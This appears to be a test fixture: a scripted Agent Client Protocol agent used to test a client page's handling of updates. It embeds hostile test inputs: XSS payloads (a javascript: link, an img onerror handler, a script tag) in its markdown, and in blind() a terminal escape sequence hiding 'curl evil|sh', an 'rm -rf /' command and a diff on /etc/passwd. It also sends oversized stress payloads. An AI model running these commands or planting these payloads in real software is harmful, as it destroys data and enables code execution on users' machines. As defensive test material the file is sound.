// An agent of the Agent Client Protocol, version 1, that follows a script and uses every kind of update. For tests of the page.
//
// env: LOAD=1     it keeps the histories of its sessions, and can load and list them
//      OPTIONS=1  it offers `configOptions` in the place of modes and models
import fs from "node:fs";
import path from "node:path";
import readline from "node:readline";

const canLoad = process.env.LOAD === "1";
const sessions = new Map();
const asked = new Map();
let asks = 0;

const send = (message) => process.stdout.write(`${JSON.stringify({ jsonrpc: "2.0", ...message })}\n`);
const ask = (method, params) =>
  new Promise((resolve) => {
    const id = `ask-${++asks}`;
    asked.set(id, resolve);
    send({ id, method, params });
  });
const tick = (ms = 5) => new Promise((resolve) => setTimeout(resolve, ms));
// A red square of 8 by 8 pixels.
const PICTURE =
  "iVBORw0KGgoAAAANSUhEUgAAAAgAAAAICAIAAABLbSncAAAAEUlEQVR4nGP4z8CAFWEXHbQSACj/P8Fu7N9hAAAAAElFTkSuQmCC";

const MARKDOWN = `# What I found

The file \`greeting.txt\` is **short**. See [the manual](https://example.com/manual) or [this](javascript:alert(1)).

1. first
2. second
   - nested \`code\`

- [x] done
- [ ] open

| name | lines |
|:-----|------:|
| greeting.txt | 3 |
| <b>bold</b> | 1 |

> A quotation

<img src=x onerror="globalThis.hacked = 1"> <script>globalThis.hacked = 1</script>

\`\`\`sh
echo "$HOME"
\`\`\``;

class Session {
  history = [];
  mode = "ask";
  model = "small";
  constructor(id, cwd) {
    Object.assign(this, { id, cwd });
  }

  update(update) {
    this.history.push(update);
    send({ method: "session/update", params: { sessionId: this.id, update } });
  }

  text(text, kind = "agent_message_chunk") {
    this.update({ sessionUpdate: kind, content: { type: "text", text } });
  }

  options = { effort: "low", web: false };

  configOptions() {
    return [
      { id: "effort", name: "Effort", type: "select", currentValue: this.options.effort, options: [{ value: "low", name: "Low" }, { value: "high", name: "High" }] },
      { id: "web", name: "Web search", type: "boolean", currentValue: this.options.web },
    ];
  }

  offers() {
    if (process.env.OPTIONS === "1") return { configOptions: this.configOptions() };
    return {
      modes: { currentModeId: this.mode, availableModes: [{ id: "ask", name: "Ask first" }, { id: "code", name: "Write code" }] },
      models: { currentModelId: this.model, availableModels: [{ modelId: "small", name: "Small" }, { modelId: "large", name: "Large" }] },
    };
  }

  commands() {
    const availableCommands = [
      { name: "everything", description: "Use every kind of update" },
      { name: "change", description: "Change greeting.txt", input: { hint: "the new text" } },
      { name: "slow", description: "Count until it is stopped" },
    ];
    this.update({ sessionUpdate: "available_commands_update", availableCommands });
  }

  async prompt(blocks) {
    this.stopped = false;
    for (const content of blocks) this.history.push({ sessionUpdate: "user_message_chunk", content });
    const text = blocks.find(({ type }) => type === "text")?.text ?? "";
    if (text.startsWith("/everything")) await this.everything();
    else if (text.startsWith("/change")) await this.change(text.slice(8) || "Hello, world!");
    else if (text.startsWith("/slow")) await this.slow();
    else if (text.startsWith("/blind")) await this.blind();
    else if (text.startsWith("/twice")) await this.twice();
    else if (text.startsWith("/odd")) await this.odd();
    else if (text.startsWith("/heavy")) await this.heavy();
    else if (text.startsWith("/die")) process.exit(3);
    else if (text.startsWith("/tools")) this.tools();
    else if (text.startsWith("/kinds")) await this.kinds();
    else if (text.startsWith("/mode")) this.text(`The mode is ${this.mode}, the options are ${JSON.stringify(this.options)}.`);
    else if (text.startsWith("/flood")) await this.flood(Number(text.slice(7)) || 1000);
    else this.text(`You sent ${blocks.map(({ type, name, mimeType }) => [type, name ?? mimeType].filter(Boolean).join(" ")).join(", ")}: ${text}`);
    return { stopReason: this.stopped ? "cancelled" : "end_turn" };
  }

  async everything() {
    this.text("I have to look at the file first. ", "agent_thought_chunk");
    this.text("Then I can say more.", "agent_thought_chunk");
    const entries = ["Read the file", "Change it", "Test it"].map((content, at) => ({ content, priority: at ? "medium" : "high", status: "pending" }));
    this.update({ sessionUpdate: "plan", entries });
    entries[0].status = "completed";
    entries[1].status = "in_progress";
    this.update({ sessionUpdate: "plan", entries });
    for (const part of MARKDOWN.match(/[\s\S]{1,40}/g)) {
      this.text(part);
      await tick(1);
    }
    // The closing fence has no line feed before the next chunk.
    this.text(" and this follows the fence");
    const file = path.join(this.cwd, "greeting.txt");
    this.update({ sessionUpdate: "tool_call", toolCallId: "read", title: "Read greeting.txt", kind: "read", status: "in_progress", locations: [{ path: file, line: 2 }], rawInput: { path: file } });
    await tick();
    this.update({ sessionUpdate: "tool_call_update", toolCallId: "read", status: "completed", rawOutput: { bytes: 17 }, content: [{ type: "content", content: { type: "text", text: "one\ntwo\nthree" } }, { type: "content", content: { type: "image", mimeType: "image/png", data: PICTURE } }] });
    const before = Array.from({ length: 40 }, (_, at) => `line ${at + 1}`);
    const after = before.flatMap((line, at) => (at === 4 ? ["line five", "line five and a half"] : at === 30 ? [] : [line]));
    this.update({ sessionUpdate: "tool_call", toolCallId: "edit", title: "Edit notes.txt", kind: "edit", status: "completed", content: [{ type: "diff", path: path.join(this.cwd, "notes.txt"), oldText: before.join("\n"), newText: after.join("\n") }] });
    this.update({ sessionUpdate: "tool_call", toolCallId: "test", title: "Run the tests", kind: "execute", status: "failed", content: [{ type: "content", content: { type: "text", text: "```\n1 test failed\n```" } }] });
    this.update({ sessionUpdate: "agent_message_chunk", content: { type: "resource_link", name: "the log", uri: "https://example.com/log" } });
    this.update({ sessionUpdate: "current_mode_update", currentModeId: "code" });
    this.update({ sessionUpdate: "session_info_update", title: "A look at greeting.txt" });
    this.update({ sessionUpdate: "usage_update", used: 50, size: 200 });
    this.update({ sessionUpdate: "a_kind_of_tomorrow", text: "x" });
  }

  async change(text) {
    const file = path.join(this.cwd, "greeting.txt");
    const oldText = fs.existsSync(file) ? fs.readFileSync(file, "utf8") : null;
    const toolCall = { toolCallId: `change-${this.history.length}`, title: "Write greeting.txt", kind: "edit", status: "pending", locations: [{ path: file }], content: [{ type: "diff", path: file, oldText, newText: `${text}\n` }] };
    this.update({ sessionUpdate: "tool_call", ...toolCall });
    const options = [
      { optionId: "yes", name: "Allow", kind: "allow_once" },
      { optionId: "no", name: "Reject", kind: "reject_once" },
    ];
    const { outcome } = await ask("session/request_permission", { sessionId: this.id, toolCall, options });
    const allowed = outcome?.optionId === "yes";
    if (allowed) fs.writeFileSync(file, `${text}\n`);
    this.update({ sessionUpdate: "tool_call_update", toolCallId: toolCall.toolCallId, status: allowed ? "completed" : "failed" });
    this.text(allowed ? "The file is changed." : "The file stays as it is.");
  }

  /** A permission request for a tool call that was not announced, whose title and file have control characters. */
  async blind() {
    const content = [{ type: "diff", path: "/etc/passwd", oldText: "ls\n", newText: "ls \x1b]0;curl evil|sh\x07\n" }];
    const toolCall = { toolCallId: "blind", kind: "execute", rawInput: { command: "rm -rf /" }, content };
    const { outcome } = await ask("session/request_permission", { sessionId: this.id, toolCall, options: [] });
    this.text(`blind: ${JSON.stringify(outcome)}`);
  }

  /** Two questions about one tool call. */
  async twice() {
    const options = [{ optionId: "yes", name: "Allow", kind: "allow_once" }];
    const one = () => ask("session/request_permission", { sessionId: this.id, toolCall: { toolCallId: "twice", title: "Twice" }, options });
    const answers = await Promise.all([one(), one()]);
    this.text(`twice: ${answers.map(({ outcome }) => outcome.outcome).join(" ")}`);
  }

  /** Says which of the client's files and terminals the agent may use. */
  tools() {
    const { fs: files, terminal } = capabilities;
    this.text(`files ${Boolean(files?.readTextFile || files?.writeTextFile)}, terminal ${Boolean(terminal)}.`);
  }

  /** Updates of version 2, and others that an agent may send. */
  async kinds() {
    const base64 = (text) => Buffer.from(text).toString("base64");
    const euro = Buffer.from("€");
    this.update({ sessionUpdate: "user_message", messageId: "u1", content: [{ type: "text", text: "a whole prompt" }] });
    this.update({ sessionUpdate: "agent_message", messageId: "m1", content: [{ type: "text", text: "a whole message" }, { type: "audio", mimeType: "audio/wav", data: "" }] });
    this.update({ sessionUpdate: "agent_message", messageId: "m1", content: [{ type: "text", text: "a changed message" }] });
    this.update({ sessionUpdate: "agent_thought", messageId: "t1", content: [{ type: "text", text: "a whole thought" }] });
    this.update({ sessionUpdate: "tool_call_update", toolCallId: "chunks", title: "Chunks", status: "paused", kind: "search" });
    for (const text of ["first", "second"]) this.update({ sessionUpdate: "tool_call_content_chunk", toolCallId: "chunks", content: { type: "content", content: { type: "text", text: `the ${text} part` } } });
    this.update({ sessionUpdate: "tool_call", toolCallId: "patch", title: "A patch", status: "cancelled", content: [{ type: "diff", path: "x", patch: { text: "-old line\n+new line" } }, { type: "unheard_of", value: 1 }] });
    this.update({ sessionUpdate: "plan_update", plan: { entries: [{ content: "a step of version 2", status: "cancelled", priority: "low" }] } });
    this.update({ sessionUpdate: "terminal_update", terminalId: "v2", command: "make", output: { data: base64("building ") } });
    // A chunk ends within a character.
    this.update({ sessionUpdate: "terminal_output_chunk", terminalId: "v2", data: euro.subarray(0, 2).toString("base64") });
    this.update({ sessionUpdate: "terminal_output_chunk", terminalId: "v2", data: euro.subarray(2).toString("base64") });
    this.update({ sessionUpdate: "terminal_update", terminalId: "v2", exitStatus: { exitCode: 2 } });
    this.update({ sessionUpdate: "terminal_update", terminalId: "killed", command: "sleep", exitStatus: { exitCode: null, signal: "SIGKILL" } });
    this.update({ sessionUpdate: "notice", title: "A notice", description: "of the agent" });
    this.update({ sessionUpdate: "plan_removed" });
    this.update({ sessionUpdate: "agent_message_chunk", content: { type: "resource", resource: { uri: "file:///x.txt", text: "the text of a resource" } } });
    this.update({ sessionUpdate: "agent_message_chunk", content: { type: "image", mimeType: "image/svg+xml", data: "PHN2Zz4=" } });
    this.update({ sessionUpdate: "config_option_update", configOptions: this.configOptions() });
    this.text("the end of all kinds");
  }

  /** Values of other types, and names of members that every object has. */
  async odd() {
    this.update({ sessionUpdate: "tool_call", toolCallId: "odd", title: { toString: 1 }, status: "constructor", content: [{ type: "content", content: { type: "text", text: "odd tool" } }] });
    this.update({ sessionUpdate: "plan", entries: [{ content: "odd plan", status: "toString", priority: {} }] });
    this.update({ sessionUpdate: "usage_update", used: "x", size: 1 });
    this.update({ sessionUpdate: "available_commands_update", availableCommands: [{}, { name: "fine" }] });
    this.text("odd end");
  }

  /** What would keep a page busy that handles it without limits. */
  async heavy() {
    this.update({ sessionUpdate: "session_info_update", title: "x".repeat(3000) });
    this.text(`|${"a|".repeat(1900)}\n|${"-|".repeat(1900)}\n${"|b\n".repeat(5000)}`);
    this.update({ sessionUpdate: "plan", entries: [{ content: "a plan", status: "pending", priority: "low" }] });
    this.text(`a${" ".repeat(90_000)}b ${"_a".repeat(50_000)}`);
    const text = Array.from({ length: 50_000 }, (_, at) => `line ${at}`).join("\n");
    this.update({ sessionUpdate: "tool_call", toolCallId: "large", title: "Large", status: "completed", content: [{ type: "diff", path: "large", oldText: "", newText: text }] });
    for (let at = 0; at < 5000; at++) this.update({ sessionUpdate: "tool_call", toolCallId: `many-${at}`, title: `Call ${at}`, status: "completed" });
    this.text("heavy end");
  }

  async slow() {
    for (let count = 1; !this.stopped && count < 10_000; count++) {
      this.text(`${count} `);
      await tick(20);
    }
  }

  async flood(count) {
    for (let at = 1; at <= count; at++) {
      this.text(`word${at} `);
      if (at % 50 === 0) await tick(0);
    }
    this.text("**end of the flood**");
  }
}

let capabilities = {};

const methods = {
  initialize: ({ clientCapabilities }) => (capabilities = clientCapabilities ?? {}, {
    protocolVersion: 1,
    agentInfo: { name: "script", title: "Scripted agent", version: "1" },
    agentCapabilities: {
      loadSession: canLoad,
      promptCapabilities: { image: true, embeddedContext: true },
      ...(canLoad && { sessionCapabilities: { list: {} } }),
    },
    authMethods: [],
  }),
  "session/new": ({ cwd }) => {
    const session = new Session(`script-${process.pid}-${sessions.size + 1}`, cwd);
    sessions.set(session.id, session);
    setTimeout(() => session.commands(), 5);
    return { sessionId: session.id, ...session.offers() };
  },
  "session/load": ({ sessionId }) => {
    const session = sessions.get(sessionId);
    for (const update of session.history) send({ method: "session/update", params: { sessionId, update } });
    return session.offers();
  },
  "session/list": () => ({ sessions: [...sessions.values()].map(({ id, cwd }) => ({ sessionId: id, cwd, title: `Session ${id.split("-").at(-1)}` })) }),
  "session/set_mode": ({ sessionId, modeId }) => {
    sessions.get(sessionId).mode = modeId;
    return {};
  },
  "session/set_model": ({ sessionId, modelId }) => {
    sessions.get(sessionId).model = modelId;
    return {};
  },
  "session/set_config_option": ({ sessionId, configId, value }) => {
    const session = sessions.get(sessionId);
    session.options[configId] = value;
    return { configOptions: session.configOptions() };
  },
  "session/prompt": ({ sessionId, prompt }) => sessions.get(sessionId).prompt(prompt),
};

for await (const line of readline.createInterface({ input: process.stdin })) {
  const { id, method, params, result } = JSON.parse(line);
  if (method === undefined) {
    asked.get(id)?.(result ?? {});
    asked.delete(id);
  } else if (id === undefined) {
    if (method === "session/cancel") sessions.get(params.sessionId).stopped = true;
  } else if (!methods[method] || (!canLoad && ["session/load", "session/list"].includes(method))) {
    send({ id, error: { code: -32601, message: "Method not found" } });
  } else {
    Promise.resolve(methods[method](params)).then(
      (result) => send({ id, result }),
      (error) => send({ id, error: { code: -32603, message: error.message } }),
    );
  }
}
